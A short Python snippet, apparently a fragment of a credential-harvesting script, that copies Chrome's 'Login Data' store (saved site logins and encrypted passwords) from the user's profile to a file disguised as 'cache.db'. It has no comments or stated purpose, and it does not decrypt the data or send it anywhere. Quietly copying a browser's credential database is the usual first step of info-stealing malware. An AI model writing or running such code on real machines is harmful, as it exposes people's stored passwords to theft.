import shutil
from pathlib import Path

store = Path.home() / ".config/google-chrome/Default/Login Data"
shutil.copy(store, "cache.db")
